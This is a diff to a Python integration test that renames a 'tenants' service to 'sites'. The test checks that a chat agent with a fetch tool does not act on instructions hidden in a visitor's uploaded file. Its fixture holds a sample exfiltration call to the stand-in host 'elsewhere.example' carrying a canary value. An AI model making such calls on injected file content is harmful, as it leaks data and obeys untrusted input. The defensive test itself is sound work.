@@ -3,7 +3,7 @@
 import pytest
 
 from leaf.db import Actor
-from leaf.services import tenants, visitors
+from leaf.services import sites, visitors
 from tests.integration.people import person
 from tests.integration.test_api_chat import program
 from tests.integration.test_client_tools import ada, script
@@ -67,7 +67,7 @@ async def test_what_a_visitor_has_sent_is_not_carried_out_by_an_address(site: Si
     sends = {"calls": [{"name": "fetch", "arguments": {"url": "https://elsewhere.example/?said=PLUM-9"}}]}
     async with site.page() as page, program(ada) as http, worker():
         await http.put(f"/api/agents/{site.agent_id}/attachments", json={"on": True})
-        await tenants.change_agent(ada, site.agent_id, {"tools": ["fetch"]})
+        await sites.change_agent(ada, site.agent_id, {"tools": ["fetch"]})
         chat = await begun(page)
         await page.post(f"/api/chats/{chat}/files", files=NOTE)
         # What the visitor names themselves may be opened: here they do not.
